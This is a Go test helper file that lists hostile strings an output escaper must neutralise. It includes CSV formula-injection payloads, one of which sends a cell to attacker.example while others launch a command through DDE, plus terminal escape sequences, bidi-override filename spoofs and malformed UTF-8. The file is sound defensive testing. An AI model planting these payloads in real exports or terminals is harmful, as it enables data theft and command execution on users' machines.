package query_test

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// hostileText is a string an attacker can place in what xffidx prints: a
// header value, a request target or Host (packet bytes), a capture's file
// name.
type hostileText struct {
	name string
	b    []byte
}

// formulaTexts start with what makes a spreadsheet read a CSV cell as a
// formula (OWASP's list: = + - @ tab CR).
func formulaTexts() []hostileText {
	var out []hostileText
	for _, s := range []string{
		`=HYPERLINK("http://attacker.example/?"&A1,"click")`,
		`=cmd|' /C calc'!A0`,
		`+1+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"=1+1, 203.0.113.7",
	} {
		out = append(out, hostileText{fmt.Sprintf("formula %q", s), []byte(s)})
	}
	return out
}

// hostileTexts returns every kind of text that must not reach a terminal,
// a spreadsheet or a JSON consumer as itself: each C0 control and DEL,
// each C1 control, terminal escape sequences, every bidirectional control,
// format characters, line and paragraph separators, invisible fillers and
// variation selectors, non-ASCII spaces, noncharacters, private use, bytes
// that are not UTF-8 (lone, overlong, surrogates, past U+10FFFF, cut
// sequences), text that looks like the escapes themselves, and the formula
// starters. Each is also embedded between ordinary text.
func hostileTexts() []hostileText {
	var out []hostileText
	add := func(name, s string) {
		out = append(out, hostileText{name, []byte(s)}, hostileText{name + " inside text", []byte("198.51.100.9, a" + s + "b")})
	}
	for c := 0; c < 0x20; c++ {
		add(fmt.Sprintf("C0 %#02x", c), string(rune(c)))
	}
	add("DEL", "\x7f")
	for r := rune(0x80); r < 0xa0; r++ {
		add(fmt.Sprintf("C1 U+%04X", r), string(r))
	}
	add("ANSI colour", "\x1b[31mred\x1b[0m")
	add("OSC 8 link", "\x1b]8;;http://attacker.example\x07click\x1b]8;;\x07")
	add("OSC title", "\x1b]0;owned\x07")
	add("clear screen", "\x1b[2J\x1b[H")
	for _, r := range []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069} {
		add(fmt.Sprintf("bidi U+%04X", r), "admin"+string(r)+"gpj.exe")
	}
	for _, r := range []rune{0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2064, 0x206a, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100} {
		add(fmt.Sprintf("invisible U+%04X", r), string(r))
	}
	for _, r := range []rune{0x2028, 0x2029} {
		add(fmt.Sprintf("separator U+%04X", r), string(r))
	}
	for _, r := range []rune{0x00a0, 0x1680, 0x2000, 0x2007, 0x200a, 0x202f, 0x205f, 0x3000} {
		add(fmt.Sprintf("space U+%04X", r), "1.2.3.4"+string(r)+"5.6.7.8")
	}
	for _, r := range []rune{0xfdd0, 0xfffe, 0xffff, 0x10ffff, 0xe000, 0xf8ff, 0x10fffd, 0x0378} {
		add(fmt.Sprintf("noncharacter, private or unassigned U+%04X", r), string(r))
	}
	for _, s := range []string{"\xff", "\x80", "\xc0\x80", "\xc1\xbf", "\xed\xa0\x80", "\xed\xbf\xbf", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\xe2\x80", "\xe2\x80\xae"[:2], "\xf0\x9f\x98"} {
		add(fmt.Sprintf("not UTF-8 %q", s), s)
	}
	add("escape look-alikes", `\x1b \u{202e} \\ \`)
	return append(out, formulaTexts()...)
}

// badRune reports a rune no output may hold as itself (the framing
// newlines of each format aside): the test's own statement of what the
// escaping must catch.
func badRune(r rune) bool {
	switch {
	case r == utf8.RuneError:
		return true // invalid UTF-8 decodes to it; a real U+FFFD is not in the hostile texts
	case r == ' ':
		return false
	}
	return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Zs, unicode.Co, unicode.Bidi_Control,
		unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector, unicode.Noncharacter_Code_Point) ||
		!unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S) // unassigned
}

// badRunes lists the runes of s (or its bytes that are not UTF-8) that
// badRune catches.
func badRunes(s string) []string {
	var bad []string
	for i, r := range s {
		if r == utf8.RuneError {
			if _, size := utf8.DecodeRuneInString(s[i:]); size <= 1 {
				bad = append(bad, fmt.Sprintf("byte %#02x", s[i]))
				continue
			}
		}
		if badRune(r) {
			bad = append(bad, fmt.Sprintf("U+%04X", r))
		}
	}
	return bad
}

// formulaStart reports whether a CSV cell would be read as a formula.
func formulaStart(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}
